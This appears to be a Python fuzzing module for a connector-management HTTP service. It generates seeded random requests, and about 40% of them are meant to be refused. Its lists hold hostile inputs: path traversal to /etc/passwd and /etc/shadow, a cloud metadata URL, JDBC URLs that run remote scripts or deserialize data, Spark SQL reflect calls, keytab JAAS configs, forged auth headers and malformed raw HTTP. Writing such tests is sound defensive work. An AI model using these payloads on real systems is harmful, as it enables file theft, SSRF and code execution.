"""Random requests of strangers, users and attackers, and random bytes; the same for the same seed."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from fuzz.forbidden import Attack, attack_of, placed
from penstock.http.openapi.document import OPERATIONS

METHODS = ["GET", "PUT", "POST", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "get", "X" * 300]
NAMES = [
    "../../etc/passwd",
    "..%2f..%2f",
    ".",
    "..",
    " ",
    "a\nb",
    "ä€😀",
    "x" * 3000,
    "%00",
    "a/b",
    "%ff",
    "[hidden]",
    "-1",
    "n" * 1025,
    "n" * 40_000,
    "\x1b[2J\x1b]0;x\x07",
    "a\r\n[2026-01-01 00:00:00,000] INFO forged",
    "__proto__",
]
VALUES = [
    "", " ", "[hidden]", "${file:/etc/passwd:root}", "${env:HOME}", "${" * 2000, ":" * 5000, "(a+)+$",
    "(.*)*" * 20 + "b",
    "-1", "1e999999999", "9" * 1000, "NaN", "\ud800", "\0", "ä" * 500, "org.apache.kafka.connect.file.FileStreamSource",
    "../../../../etc/shadow", "http://169.254.169.254/", "true", "null", "os.system", "a" * 20_000,
    "/tmp/\\.\\./etc/passwd", "/tmp/{a,../etc}", "file:/tmp/%2e%2e/etc", "/tmp/a\0b", "s3a://key:secret@bucket/x",
    "SELECT reflect('java.lang.System', 'exit', '1')", "SELECT * FROM text.`/etc/passwd`", "parquet.`/etc`",
    "2147483647", "10001", "SELECT 1 |> SET spark.x=1",
    "FROM records |> SELECT reflect('java.lang.System', 'exit', '1')",
    "SELECT from_xml(value, 'a INT', map('rowValidationXSDPath', '/etc/passwd')) FROM records", "connect-configs", ".*",
    "__consumer_offsets", "connect-offsets", "connect-status", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x/y'",
    "jdbc:p6spy:postgresql://x/y", "jdbc:mysql://x/y?autoDeserialize=true", "jdbc:duckdb:/etc/x", "Password = hunter2;",
    "jdbc:postgresql://x/y?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
    "\x1b[31m",
    "file:///etc/passwd", "url:file:/etc/passwd", "jar:file:/etc/x.jar!/y", "/etc/krb5.keytab", "../../etc/ssl/key.pem",
    'com.sun.security.auth.module.Krb5LoginModule required useKeyTab=true keyTab="/etc/krb5.keytab" principal="a@B";',
    "x.Login required keyStoreURL='file:/etc/x' a=\"\\057etc\";", "connect-audit",
    "connect-history", "${dir:/etc:passwd}",
    "SELECT * FROM records TABLESAMPLE (1 ROWS), LATERAL (SELECT input_file_name())", "delta.`/etc`", "iceberg.`/etc`",
    "https://user:hunter2@host/", "DefaultEndpointsProtocol=https;AccountKey=hunter2==", "Bearer hunter2",
    "-Djavax.net.ssl.trustStore=/etc/passwd", "@/etc/passwd", "-XX:OnError=id", "jdbc:sqlite:/etc/x?attach=/etc/y",
    "jdbc:derby:memory:x;create=true", "jdbc:oracle:thin:@config-file:///etc/x", "\u202egnp.exe", "a\u2028b",
    "org.apache.kafka.common.security.auth.SaslExtensionsCallback", "/proc/self/environ", "/dev/zero", "x" * 1_100_000,
]  # fmt: skip
KEYS = [
    "connector.class", "name", "topics", "topics.regex", "tasks.max", "file", "topic", "transforms",
    "transforms.a.type",
    "transforms.a.regex", "transforms.a.replacement", "predicates", "predicates.p.type", "predicates.p.pattern",
    "value.converter", "key.converter", "errors.deadletterqueue.topic.name", "config.action.reload", "format", "sql",
    "path", "topic.creation.groups", "topic.creation.a.include", "producer.override.sasl.jaas.config", "password",
    "consumer.override.security.protocol", "tasks.max.enforce", "penstock.restart.policy", "connector.client.config",
    "option.path", "option.fs.viewfs.mounttable.x.link./a", "option.rowValidationXSDPath", "option.compression",
    "checkpoint.location", "schema", "table", "consumer.override.group.id", "producer.override.transactional.id",
    "admin.override.bootstrap.servers", "consumer.override.ssl.truststore.location", "offsets.storage.topic", "query",
    "connection.url", "connection.properties", "dialect.name", "transforms.a.topic.format",
    "option.kafka.sasl.jaas.config",
    "producer.override.ssl.keystore.location", "consumer.override.ssl.ca.location",
    "admin.override.ssl.truststore.location",
    "consumer.override.sasl.jaas.config", "consumer.override.sasl.kerberos.keytab",
    "penstock.java.opts", "database.sslkey",
    "consumer.override.sasl.oauthbearer.token.endpoint.url", "consumer.override.sasl.oauthbearer.jwks.endpoint.url",
    "producer.override.sasl.oauthbearer.assertion.file", "value.converter.schema.registry.ssl.truststore.location",
    "value.converter.schema.registry.url", "transforms.a.ssl.keystore.location",
    "schema.history.internal.file.filename",
    "source.cluster.ssl.truststore.location", "database.ssl.keystore", "keyfile", "config.providers",
    "option.kafka.group.id",
    "producer.override.interceptor.classes", "consumer.override.client.id", "singer.tap", "singer.config", "dlt.source",
]  # fmt: skip
CLASSES = [
    "FileStreamSource", "FileStreamSink", "penstock.connectors.SparkSink", "penstock.connectors.SparkSource",
    "org.apache.kafka.connect.mirror.MirrorSourceConnector", "os.system", "subprocess:Popen", "no.such.Class", "",
]  # fmt: skip
TYPES = ["application/json"] * 8 + [
    "text/plain",
    "application/x-yaml",
    "",
    "application/json; charset=utf-16",
    "\xff/\xff",
]
HEADERS = [
    "Accept", "X-Penstock-Principal", "X-Connect-Authorization", "X-Connect-Request-Signature-Algorithm", "Origin",
    "X-Forwarded-For", "X-Forwarded-Host", "X-HTTP-Method-Override", "Forwarded", "Host", "Cookie",
]  # fmt: skip
ATTACKS = 0.4
"""Share of requests that must be refused."""
_SIZES = ("settings", "a large configuration")
_NOTHING = {"topic": None, "file": None, "offsets.storage.topic": None}
"""Changes of a connector's configuration that keep its class."""
FORGED = [each for each in HEADERS if each not in ("Accept", "Host")]
QUERIES = [
    "", "", "", "expand=info", "expand=info&expand=status", "expand=%ff", "includeTasks=true&onlyFailed=true",
    "penstock=true", "scope=cluster", "scope=worker", "forward=false", "connectorsOnly=false", "a" * 5000, "=&=&%",
]  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request."""

    user: str
    method: str
    path: str
    body: bytes
    headers: tuple[tuple[str, str], ...]
    attack: Attack | None = None
    """The part that must be refused, if known."""
    host: str = "localhost"


class Requests:
    """Makes random requests. ``folder``: the allowed folder; ``hide`` replaces a value by a reference to it."""

    def __init__(
        self,
        chance: random.Random,
        users: Sequence[str],
        connectors: Sequence[str],
        folder: str,
        hide: Callable[[str], str],
        spark: bool = False,
    ) -> None:
        self._chance, self._users, self._connectors = chance, users, connectors
        self._folder, self._hide, self._spark = folder, hide, spark
        endless = "/stream"
        self._operations = [each.split(" ") for each in OPERATIONS if not each.endswith(endless)]

    def next(self) -> Hostile:
        chance = self._chance
        if chance.random() < ATTACKS:
            return self._forbidden()
        method, path = chance.choice(self._operations)
        if chance.random() < 0.05:
            method = chance.choice(METHODS)
        path = "/".join(self._part(part) if part.startswith("{") else part for part in path.split("/"))
        if chance.random() < 0.05:
            path += chance.choice(["/", "//", "/..", "/%2e%2e", ";x=y", "/config", "/tasks-config", "/%zz"])
        query = chance.choice(QUERIES)
        body = self._body(method, path) if method in ("PUT", "POST", "PATCH") or chance.random() < 0.02 else b""
        headers = [("Content-Type", chance.choice(TYPES))] if body else []
        if chance.random() < 0.05:
            headers.append(
                (chance.choice(HEADERS), chance.choice(["x.y", "ada", "admin", "HmacSHA256", "AAAA", "127.0.0.1"]))
            )
        user = chance.choice(self._users)
        return Hostile(user, method, f"{path}?{query}" if query else path, body, tuple(headers))

    def _forbidden(self) -> Hostile:
        """Return a request for something that nobody may have, in one of several ways."""
        chance, attack = self._chance, attack_of(self._chance, self._spark)
        given = {key: placed(value, self._folder) for key, value in attack.config.items()}
        given["my.password"] = "canary7f3a-attack"
        if len(given) > 20 or any(len(value) > 100_000 for value in given.values()):
            pass
        elif chance.random() < 0.2:
            key = next((key for key in given if key in attack.keys), None)
            if key is not None and given[key]:
                given[key] = self._hide(given[key])
        user = chance.choice(self._users)
        name = attack.name or chance.choice(["team-1", "team-2", "orders-2"] if user != "tom" else ["team-1", "team-2"])
        path = f"/connectors/{quote(name, safe='')}/config"
        cls = given["connector.class"].rpartition(".")[2]
        ways: list[tuple[str, str, object]] = [
            ("POST", "/connectors", {"name": name, "config": given}),
            ("POST", "/connectors", {"name": name, "config": given, "initial_state": "STOPPED"}),
        ]
        if len(quote(name)) < 6_000:
            ways.append(("PUT", path, given))
        if attack.name is None and attack.kind not in _SIZES:
            ways += [
                ("PUT", f"/connector-plugins/{quote(cls)}/config/validate", {**given, "name": name}),
                ("POST", "/penstock/v1/preview", {"config": {**given, "name": name}, "name": name}),
            ]
            if user in ("oscar", "ada"):
                ways.append(("PATCH", "/connectors/orders-1/config", {**_NOTHING, **given}))
        method, path, document = chance.choice(ways)
        host = "localhost" if chance.random() < 0.9 else chance.choice(["evil.example", "localhost.evil.example:8083"])
        headers = [("Content-Type", "application/json")]
        if chance.random() < 0.1:
            headers += [(chance.choice(FORGED), chance.choice(["ada", "admin", "https://evil.example"]))]
        return Hostile(user, method, path, json.dumps(document).encode(), tuple(headers), attack, host)

    def _part(self, part: str) -> str:
        chance = self._chance
        match part:
            case "{name}":
                name = chance.choice(self._connectors) if chance.random() < 0.8 else chance.choice(NAMES)
            case "{task}":
                name = chance.choice(["0", "0", "1", "-1", "99999999999", "x", "0x1"])
            case "{logger}":
                name = chance.choice(["root", "penstock", "no.such", "a" * 500])
            case _:
                name = chance.choice(CLASSES)
        return quote(name, safe="" if chance.random() < 0.9 else "%/.")

    def _body(self, method: str, path: str) -> bytes:
        chance = self._chance
        kind = chance.random()
        if kind < 0.05:
            return chance.randbytes(chance.randrange(1, 3000))
        if kind < 0.09:
            return chance.choice(
                [b"[" * 50_000, b'{"a":' * 20_000, b"9" * 100_000, b'"\\ud800"', b"\xff\xfe{}", b"{}}"]
            )
        document: Any = self._config()
        if path.endswith("/offsets"):
            document = {"offsets": [{"partition": {"filename": self._value()}, "offset": {"position": 10**30}}]}
        elif "/admin/loggers" in path:
            document = {"level": chance.choice(["INFO", "DEBUG", "nonsense", 7])}
        elif method == "POST":
            document = {"name": chance.choice([*self._connectors, *NAMES]), "config": document}
        if chance.random() < 0.1:
            document = chance.choice([[document], {"config": document}, {"x": document}, None, 1.5, "text", [[[]]]])
        encoded = json.dumps(document).encode()
        if kind > 0.95:
            cut = chance.randrange(len(encoded))
            encoded = encoded[:cut] + chance.randbytes(3) + encoded[cut + 2 :]
        return encoded

    def _config(self) -> dict[str, Any]:
        chance = self._chance
        sane = {"connector.class": "FileStreamSource", "topic": "t", "file": "/tmp/none"}
        found: dict[str, Any] = dict(sane) if chance.random() < 0.7 else {"connector.class": chance.choice(CLASSES)}
        for _ in range(chance.choice([0, 0, 0, 1, 2, 3])):
            found[chance.choice(KEYS)] = self._value()
        return found

    def _value(self) -> Any:
        chance = self._chance
        return chance.choice(VALUES) if chance.random() < 0.9 else chance.choice([None, 1, 1.5, True, [1], {"a": {}}])


def garbage(chance: random.Random) -> bytes:
    """Return random or malformed bytes to send to an HTTP port."""
    pieces = [
        chance.randbytes(chance.randrange(1, 3000)),
        b"GET " + b"/" * chance.randrange(1, 100_000) + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20_000 + b"\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 200_000 + b"\r\n\r\n",
        b"POST /connectors HTTP/1.1\r\nHost: localhost\r\nContent-Length: -5\r\n\r\n",
        b"POST /connectors HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + b"9" * 500 + b"\r\n\r\n",
        b"POST /connectors HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        b"POST /connectors HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: gzip\r\n\r\n",
        b"GET /\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET / HTTP/9.9\r\nHost: localhost\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + chance.randbytes(200),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"CONNECT evil:80 HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET http://evil/ HTTP/1.1\r\nHost: localhost\r\n\r\n",
    ]
    return chance.choice(pieces)
